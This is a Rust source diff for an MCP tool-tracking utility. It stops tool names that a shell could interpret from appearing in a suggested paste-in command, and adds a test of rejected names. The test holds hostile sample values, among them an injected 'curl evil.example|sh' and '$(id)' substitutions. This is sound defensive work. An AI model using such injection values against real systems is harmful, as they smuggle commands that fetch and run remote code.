@@ -6,7 +6,7 @@ use serde_json::{Value, json};
 use store::{AcceptedBy, SeenDefinition, ToolList, ToolRecord};
 
 use crate::commands::docs::{moment, when};
-use crate::words::tools::{change, finding, name, place, short};
+use crate::words::tools::{change, finding, name, place, print, short};
 
 const NOTHING: &str = "No tool is known. One is when a client first asks the MCP server for its list.\n";
 
@@ -123,9 +123,20 @@ fn waits(server: &str, tool: &ToolRecord, waiting: &SeenDefinition) -> String {
         text.extend(changes(&before, &after).iter().map(change));
     }
     text.extend(findings(&after).iter().map(|found| format!("  ! {}\n", finding(found))));
-    let command = format!("{}@{}", name(&tool.tool), short(&waiting.fingerprint));
-    text.push_str(&format!("  accept it: sekisho tools accept {server} '{command}'\n\n"));
+    let print = print(&waiting.fingerprint);
+    // A line to paste holds nothing of the MCP server's that a shell could read.
+    text.push_str(&if is_plain(&tool.tool) {
+        format!("  accept it: sekisho tools accept {server} {}@{print}\n\n", tool.tool)
+    } else {
+        format!("  fingerprint {print}; its name is nothing to paste into a shell\n\n")
+    });
     text
+}
+
+/// As MCP 2025-11-25, "Tool Names", has it.
+fn is_plain(tool: &str) -> bool {
+    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-');
+    !tool.starts_with('-') && tool.bytes().all(fits)
 }
 
 /// What was accepted.
@@ -151,7 +162,7 @@ pub(super) fn accepted(server: &str, put: &[ToolRecord]) -> String {
 fn seen_json(seen: &SeenDefinition) -> Value {
     let found = read(seen).map(|definition| findings(&definition)).unwrap_or_default();
     json!({
-        "fingerprint": short(&seen.fingerprint),
+        "fingerprint": print(&seen.fingerprint),
         "seen_at": moment(seen.seen_at),
         "definition": serde_json::from_str::<Value>(&seen.text).unwrap_or_default(),
         "look_twice": found.iter().map(finding).collect::<Vec<_>>(),
@@ -202,4 +213,21 @@ pub(super) fn diff_json(servers: &[(String, ToolList)]) -> String {
         .iter()
         .flat_map(|(server, list)| list.tools.iter().filter_map(move |tool| waits(server, tool)));
     format!("{}\n", json!({ "tools": tools.collect::<Vec<_>>() }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_shell_reads_is_in_no_line_to_paste() {
+        for name in ["echo", "files.read", "a_b-c.D9"] {
+            assert!(is_plain(name), "{name}");
+        }
+        for name in
+            ["x'; curl evil.example|sh; '", "$(id)", "`id`", "a b", "a\nb", "-rf", "caf\u{e9}", "a@b", "a/b"]
+        {
+            assert!(!is_plain(name), "{name}");
+        }
+    }
 }
